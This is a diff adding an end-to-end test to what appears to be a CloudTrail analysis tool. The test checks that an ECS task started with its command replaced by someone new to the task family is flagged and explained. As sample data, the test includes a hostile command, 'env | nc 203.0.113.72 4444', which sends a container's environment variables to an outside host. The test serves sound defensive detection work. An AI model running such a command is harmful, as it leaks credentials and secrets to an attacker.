@@ -1210,3 +1210,39 @@ test("an Image Builder recipe that builds on a stranger's component and another'
   await t.shot('images-builder-recipe', { fullPage: false });
   assert.deepEqual(t.problems, []);
 });
+
+test("a task of the sample's family started with its command replaced by someone new to it: an item", async () => {
+  // The contractor, who never registered, deployed or started the family, runs a task of the
+  // sample's last family with a shell in place of the image's command (RunTask's
+  // `containerOverrides[].command`); the family's registrant runs one too (a migration: no item).
+  // Who had touched the family before each start is worked out here from the raw events.
+  const { events, ok, last, family, account, contractor, at, ecs } = nextRevision('07', '203.0.113.72', 'f');
+  const revision = last.responseElements.taskDefinition.revision;
+  const run = (n, who, command) => ({ ...ecs(n, 'RunTask', { cluster: 'e2e', taskDefinition: `${family}:${revision}`,
+    overrides: { containerOverrides: [{ name: 'app', command }] } }, null), userIdentity: who });
+  const mine = [run(1, contractor, ['sh', '-c', 'env | nc 203.0.113.72 4444']), run(2, last.userIdentity, ['./migrate'])];
+  const all = [...events, ...mine];
+  const of = (e) => e.requestParameters?.family ?? e.responseElements?.taskDefinition?.family
+    ?? String(e.requestParameters?.taskDefinition ?? '').split('/').pop().split(':')[0];
+  const touched = (who, before) => all.some((e) => ok(e) && e.eventTime < before.eventTime && e.userIdentity?.arn === who
+    && of(e) === family && e.recipientAccountId === account && ['RegisterTaskDefinition', 'CreateService', 'UpdateService', 'RunTask', 'StartTask'].includes(e.eventName));
+  const flagged = mine.filter((e) => !touched(e.userIdentity.arn, e));
+  assert.deepEqual(flagged, [mine[0]]);
+  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-command-')), 'command.json');
+  const { t, list } = await attentionOf(file, all);
+  const item = list.locator('li[data-kind=task-command-replaced]');
+  await item.first().waitFor();
+  assert.equal(await item.count(), flagged.length);
+  assert.equal(await item.getAttribute('data-severity'), 'medium');
+  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
+  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Task of ${family} started with its command replaced`);
+  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
+  const why = await item.locator('[data-testid=attention-why]').innerText();
+  assert.ok(why.startsWith(`RunTask of ${family}:${revision} started at ${utc(at(1))} on cluster e2e from 203.0.113.72 with AWS CLI ran, `
+    + `in place of the image's command: sh -c env | nc 203.0.113.72 4444. ${contractor.arn} had not registered, deployed or started ${family} before in these logs.`), why);
+  const role = last.requestParameters.taskRoleArn;
+  assert.ok(why.includes(role ? `The task runs it with its definition's task role ${role}` : 'The task runs it with no task role (its definition gives none)'), why);
+  await item.scrollIntoViewIfNeeded();
+  await t.shot('identities-task-command-replaced', { fullPage: false });
+  assert.deepEqual(t.problems, []);
+});
